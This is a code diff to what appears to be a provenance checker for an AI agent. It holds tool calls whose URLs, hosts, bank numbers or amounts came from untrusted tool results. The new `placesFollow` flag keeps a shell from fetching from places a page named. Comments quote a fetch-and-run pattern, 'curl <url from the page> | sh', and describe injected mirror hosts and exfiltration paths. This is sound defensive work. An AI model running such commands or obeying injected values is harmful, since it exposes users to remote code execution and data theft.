@@ -176,6 +176,9 @@ const NO_FOUND: readonly FoundValue[] = Object.freeze([]);
  * ...") is the user's own errand; an order no such result needs (pressed: it speaks to the agent,
  * announces a replacement, or passed through a call or a record) still holds under `instructed`.
  * `ungiven`: a distinctive value no one gave holds the call under any mode, as under `user`.
+ * `placesFollow`: under `any`, whether the delegation covers a URL, host or address too; a tool whose
+ * name says no act (a shell) follows a pointed result's packages and paths, never where it sends or
+ * fetches (round 56: "curl <url from the page> | sh" stays held).
  */
 export function judgeDecidingArguments(
   args: readonly DecidingArgument[],
@@ -184,6 +187,7 @@ export function judgeDecidingArguments(
   delegated = false,
   tainted = true,
   ungiven = false,
+  placesFollow = true,
 ): ProvenanceFinding {
   // A short code a result brought in, under any mode and delegation: no errand to people reaches a service.
   if (tainted) {
@@ -313,7 +317,8 @@ export function judgeDecidingArguments(
       const v = asWholeIban(found);
       const first = onUsersSite(wornOnce(numberOrigin(v, a.text, ledger), v, ledger, wornSeen), v, ledger);
       const origin = first.kind === 'trusted' ? (resultsGroupOrigin(v, ledger) ?? first) : first;
-      if (origin.kind === 'untrusted' && holdsUnder(origin, mode, delegated))
+      const follows = delegated && (placesFollow || mode !== 'any' || !FOLLOWED_PLACES.has(v.kind));
+      if (origin.kind === 'untrusted' && holdsUnder(origin, mode, follows))
         return { kind: 'untrusted', arg: a.name, value: v.kind, source: origin.source };
       // A result's host with a path and query a result wrote apart from it, the whole URL no one's (round
       // 36: a mirror host in one message, "mirror path: /export?include=driver_rota" in the next): the
@@ -405,7 +410,7 @@ export function judgeDecidingArguments(
           return { kind: 'untrusted', arg: a.name, value: v.kind, source: withheld.source, assembled: true };
         // A host under a domain only a result gave ("the get subdomain of libfoo-tools.example").
         const above = worn(underParent(origin, v, ledger), v, ledger);
-        if (above.kind === 'untrusted' && holdsUnder(above, mode, delegated))
+        if (above.kind === 'untrusted' && holdsUnder(above, mode, follows))
           return { kind: 'untrusted', arg: a.name, value: v.kind, source: above.source };
       }
     }
@@ -1189,12 +1194,18 @@ function nameTailKey(key: string): string | undefined {
   return words.length >= 3 ? `name:${words.slice(1).join(' ')}` : undefined;
 }
 
+/** What a shell sends to or fetches from: under `any` a pointer covers none of them (placesFollow). */
+const FOLLOWED_PLACES: ReadonlySet<string> = new Set(['url', 'host', 'email']);
+
 /** Does an untrusted origin hold a sink under `mode` (an ordinary request passes where the user delegated)? */
 function holdsUnder(
   origin: Extract<ValueOrigin, { kind: 'untrusted' }>,
   mode: ProvenanceMode,
   delegated: boolean,
 ): boolean {
+  // `any` with a request that follows a result (acts.ts FOLLOWS_RESULT): the pointed result's own values
+  // are the ones the user asked for; an order pressed on the agent, and any other result, still hold.
+  if (mode === 'any') return !(delegated && origin.pointed && !origin.pressed);
   return mode !== 'instructed' || (origin.instructed && (origin.pressed || !(delegated && origin.pointed)));
 }
 
@@ -1406,7 +1417,7 @@ export function judgeWhatIsDone(
         (userNamesDetail(v.kind, a.name, ledger) ||
           (v.kind === 'amount' && paysBillToOwnPlace(args, ledger)));
       if (named) continue;
-      if (mode !== 'instructed' || (origin.instructed && (origin.pressed || !(delegated && origin.pointed))))
+      if (holdsUnder(origin, mode, delegated))
         return { kind: 'untrusted', arg: a.name, value: v.kind, source: origin.source };
     }
   }
